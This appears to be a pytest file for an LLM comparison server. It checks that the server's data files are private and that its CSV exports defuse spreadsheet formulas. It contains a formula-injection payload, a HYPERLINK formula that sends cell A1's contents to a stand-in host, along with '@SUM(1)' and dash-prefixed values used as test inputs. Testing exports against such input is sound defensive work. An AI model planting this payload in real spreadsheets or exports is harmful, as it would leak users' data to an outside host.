"""Findings 13 and 11 against a real server: what the arena writes to disk only its owner can
read, and every CSV it exports (conversation, bench report) defuses formula cells."""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import stat
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from arena.storage.db import Database
from tests.support.doubles.ollama import OllamaDouble
from tests.support.fixtures import ArenaFactory
from tests.support.server import make_settings, ndjson_lines

LLAMA = "ollama:llama3.2:1b"
ATTACK = '=HYPERLINK("http://e.x/?"&A1)'  # 28 characters: fits a label


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def usual_umask() -> Iterator[None]:
    """The common umask (022), under which files are made readable by everyone unless told otherwise."""
    previous = os.umask(0o022)
    yield
    os.umask(previous)


def test_a_server_run_keeps_the_data_directory_and_its_files_private(
    usual_umask: None,
    tmp_path: Path,
    double: OllamaDouble,
    arena_factory: ArenaFactory,
    caplog: pytest.LogCaptureFixture,
) -> None:
    data = tmp_path / "data"
    data.mkdir(mode=0o755)
    data.chmod(0o755)  # as an earlier version left it
    caplog.set_level(logging.WARNING, logger="arena.storage.private_files")

    arena = arena_factory(data_dir=data, ollama_hosts=[double.url], embedded_enabled=False)
    with (
        arena.client() as client,
        client.stream(
            "POST", "/api/stream_chat", json={"message": "hi", "model_instances": [{"model": LLAMA}]}
        ) as response,
    ):
        assert response.status_code == 200
        list(ndjson_lines(response))
    Database.for_settings(arena.settings).dispose()  # a second opening warns no more

    assert mode(data) == 0o700
    files = {path.name: mode(path) for path in data.iterdir() if path.is_file()}
    assert {"arena.db", "arena.db-wal", "arena.db-shm", "audit.key"} <= set(files), files
    assert files == dict.fromkeys(files, 0o600)
    warnings = [r.getMessage() for r in caplog.records if "open to other users" in r.getMessage()]
    assert warnings == [f"{data} was open to other users (mode 0755); made it 0700"]


def test_a_new_data_directory_and_database_are_made_private(usual_umask: None, tmp_path: Path) -> None:
    settings = make_settings(tmp_path / "new" / "data")
    database = Database.for_settings(settings)
    try:
        database.migrate()
    finally:
        database.dispose()

    assert mode(tmp_path / "new" / "data") == 0o700
    assert (mode(tmp_path / "new" / "data" / "arena.db"), mode(settings.resolved_audit_key_file)) == (0o600, 0o600)


def test_conversation_csv_defuses_formulas_in_label_model_prompt_and_answer(
    double: OllamaDouble, arena_factory: ArenaFactory
) -> None:
    double.reply = [ATTACK]
    arena = arena_factory(ollama_hosts=[double.url], embedded_enabled=False)
    with arena.client() as client:
        with client.stream(
            "POST", "/api/stream_chat", json={"message": ATTACK, "model_instances": [{"model": LLAMA}]}
        ) as response:
            conversation_id = list(ndjson_lines(response))[0]["conversation_id"]
        exported = client.get(f"/api/conversations/{conversation_id}/export", params={"format": "json"}).json()
        exported["instances"][0]["label"] = ATTACK
        exported["instances"][0]["model"] = "-" + LLAMA  # an imported model id is free text
        for turn in exported["turns"]:
            for answer in turn["responses"]:
                answer["label"] = ATTACK
        imported = client.post("/api/conversations/import", json=exported)
        assert imported.status_code in (200, 201), imported.text
        new_id = imported.json().get("id") or imported.json().get("conversation_id")
        rows = [
            row
            for conversation in (conversation_id, new_id)
            for row in csv.DictReader(
                io.StringIO(client.get(f"/api/conversations/{conversation}/export", params={"format": "csv"}).text)
            )
        ]

    assert [(row["prompt"], row["answer"]) for row in rows] == [(f"'{ATTACK}", f"'{ATTACK}")] * 2
    assert (rows[1]["label"], rows[1]["model"]) == (f"'{ATTACK}", f"'-{LLAMA}")


def test_bench_csv_defuses_formulas_in_answer_and_category(double: OllamaDouble, arena_factory: ArenaFactory) -> None:
    double.reply = [ATTACK]
    arena = arena_factory(ollama_hosts=[double.url], embedded_enabled=False)
    prompts = json.dumps({"id": "p1", "prompt": "Say it.", "category": "@SUM(1)"}).encode() + b"\n"
    with arena.client() as client:
        created = client.post(
            "/api/bench/runs",
            files={"prompts": ("set.jsonl", prompts, "application/octet-stream")},
            data={"config": json.dumps({"instances": [{"model": LLAMA}], "repeats": 1})},
        )
        assert created.status_code == 201, created.text
        run_id = created.json()["id"]
        deadline = time.monotonic() + 30
        while client.get(f"/api/bench/runs/{run_id}").json()["status"] != "done":
            assert time.monotonic() < deadline
            time.sleep(0.05)
        text = client.get(f"/api/bench/runs/{run_id}/report", params={"format": "csv"}).text

    [row] = list(csv.DictReader(io.StringIO(text)))
    assert (row["answer"], row["category"]) == (f"'{ATTACK}", "'@SUM(1)")
